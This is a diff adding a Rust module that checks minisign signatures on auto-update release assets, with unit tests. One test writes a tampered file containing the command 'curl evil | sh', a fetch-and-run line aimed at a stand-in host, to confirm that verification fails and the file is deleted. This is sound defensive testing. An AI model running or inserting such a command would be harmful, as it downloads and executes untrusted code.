@@ -0,0 +1,178 @@
+// Minisign detached signatures of release assets, checked against the pinned key in `au_config`.
+
+use std::{fs::File, io::Read, path::Path};
+
+use minisign_verify::{PublicKey, Signature};
+
+use crate::{
+    error::AuError,
+    version::{release_info::ReleaseAsset, Downloader, ReleaseInfo},
+};
+
+const SIGNATURE_FILE_LIMIT: usize = 4 * 1024;
+
+fn signature_error(msg: String) -> AuError {
+    AuError::SignatureError(msg)
+}
+
+/// Signature of one asset && the key it must verify against.
+#[derive(Clone)]
+pub struct ReleaseSignature {
+    key: PublicKey,
+    signature: Signature,
+}
+
+impl ReleaseSignature {
+    /// `key` is the base64 minisign public key, `minisig` the `.minisig` file content.
+    pub fn decode(key: &str, minisig: &str) -> Result<Self, AuError> {
+        let key = PublicKey::from_base64(key.trim())
+            .map_err(|e| signature_error(format!("bad release_signing_key: {}", e)))?;
+        let signature = Signature::decode(minisig)
+            .map_err(|e| signature_error(format!("bad signature file: {}", e)))?;
+        Ok(ReleaseSignature { key, signature })
+    }
+
+    /// Only prehashed (default since minisign 0.9) signatures are accepted, a failed file is removed.
+    pub fn verify_file(&self, path: &Path) -> Result<(), AuError> {
+        let r = self.verify_stream(path);
+        if r.is_err() {
+            _ = std::fs::remove_file(path);
+        }
+        r
+    }
+
+    fn verify_stream(&self, path: &Path) -> Result<(), AuError> {
+        let mut verifier = self
+            .key
+            .verify_stream(&self.signature)
+            .map_err(|e| signature_error(format!("{}: {}", path.display(), e)))?;
+        let mut file = File::open(path)?;
+        let mut buf = vec![0u8; 64 * 1024];
+        loop {
+            let n = file.read(&mut buf)?;
+            if n == 0 {
+                break;
+            }
+            verifier.update(&buf[..n]);
+        }
+        verifier
+            .finalize()
+            .map_err(|e| signature_error(format!("{}: {}", path.display(), e)))
+    }
+}
+
+/// Signature `asset` must pass, by the pinned `signing_key`.
+///
+/// `None` only if `allow_unsigned` is explicitly set for the release source.
+/// A published signature is still checked then, as long as there is a key.
+pub async fn release_signature(
+    release_info: &ReleaseInfo,
+    asset: &ReleaseAsset,
+    signing_key: Option<&str>,
+    allow_unsigned: bool,
+) -> Result<Option<ReleaseSignature>, AuError> {
+    let (Some(sig_asset), Some(key)) = (release_info.signature_asset(asset), signing_key) else {
+        if allow_unsigned {
+            println!(
+                "unsigned release asset {} accepted by allow_unsigned_sources",
+                asset.name()
+            );
+            return Ok(None);
+        }
+        return Err(match signing_key {
+            None => signature_error("no release_signing_key configured".into()),
+            Some(_) => signature_error(format!("no signature for {}", asset.name())),
+        });
+    };
+    let content = Downloader::default()
+        .fetch(sig_asset.download_url(), SIGNATURE_FILE_LIMIT)
+        .await?;
+    let minisig = std::str::from_utf8(&content)
+        .map_err(|_| signature_error(format!("bad signature file {}", sig_asset.name())))?;
+    ReleaseSignature::decode(key, minisig).map(Some)
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::version::download::stand_in::StandIn;
+
+    // minisign test vector, prehashed signature of `test`.
+    const KEY: &str = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
+    const MINISIG: &str = "untrusted comment: signature from minisign secret key
+RUQf6LRCGA9i559r3g7V1qNyJDApGip8MfqcadIgT9CuhV3EMhHoN1mGTkUidF/z7SrlQgXdy8ofjb7bNJJylDOocrCo8KLzZwo=
+trusted comment: timestamp:1556193335\tfile:test
+y/rUw2y8/hOUYjZU71eHp/Wo1KZ40fGy2VJEDl34XMJM+TX48Ss/17u3IvIfbVR1FkZZSNCisQbuQY+bHwhEBg==
+";
+    // legacy (not prehashed) signature of `test` by the same key.
+    const LEGACY_MINISIG: &str = "untrusted comment: signature from minisign secret key
+RWQf6LRCGA9i59SLOFxz6NxvASXDJeRtuZykwQepbDEGt87ig1BNpWaVWuNrm73YiIiJbq71Wi+dP9eKL8OC351vwIasSSbXxwA=
+trusted comment: timestamp:1555779966\tfile:test
+QtKMXWyYcwdpZAlPF7tE2ENJkRd1ujvKjlj1m9RtHTBnZPa5WKU5uWRs5GoP5M/VqE81QFuMKI5k/SfNQUaOAA==
+";
+    const NAME: &str = "topio-1.8.0-release.tar.gz";
+
+    fn temp_file(name: &str, content: &str) -> std::path::PathBuf {
+        let path = std::env::temp_dir().join(format!("top-au-sig-{}-{}", name, std::process::id()));
+        std::fs::write(&path, content).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_verify_file() {
+        let good = temp_file("good", "test");
+        ReleaseSignature::decode(KEY, MINISIG)
+            .unwrap()
+            .verify_file(&good)
+            .unwrap();
+        std::fs::remove_file(&good).unwrap();
+
+        let tampered = temp_file("tampered", "test; curl evil | sh");
+        assert!(matches!(
+            ReleaseSignature::decode(KEY, MINISIG)
+                .unwrap()
+                .verify_file(&tampered),
+            Err(AuError::SignatureError(_))
+        ));
+        assert!(!tampered.exists());
+
+        let legacy = temp_file("legacy", "test");
+        assert!(ReleaseSignature::decode(KEY, LEGACY_MINISIG)
+            .unwrap()
+            .verify_file(&legacy)
+            .is_err());
+
+        assert!(ReleaseSignature::decode("not a key", MINISIG).is_err());
+        assert!(ReleaseSignature::decode(KEY, "garbage").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_release_signature() {
+        let server = StandIn::start(MINISIG.as_bytes().to_vec()).await;
+        let sig_name = format!("{}.minisig", NAME);
+        let signed = ReleaseInfo::with_assets(
+            &[(NAME, "https://a.com/x"), (&sig_name, &server.url("/file"))],
+            "",
+        );
+        let asset = signed.release_asset().unwrap();
+        assert!(release_signature(&signed, asset, Some(KEY), false)
+            .await
+            .unwrap()
+            .is_some());
+        // signed, but no key to check it with.
+        assert!(release_signature(&signed, asset, None, false)
+            .await
+            .is_err());
+
+        let unsigned = ReleaseInfo::with_assets(&[(NAME, "https://a.com/x")], "");
+        let asset = unsigned.release_asset().unwrap();
+        assert!(matches!(
+            release_signature(&unsigned, asset, Some(KEY), false).await,
+            Err(AuError::SignatureError(_))
+        ));
+        assert!(release_signature(&unsigned, asset, Some(KEY), true)
+            .await
+            .unwrap()
+            .is_none());
+    }
+}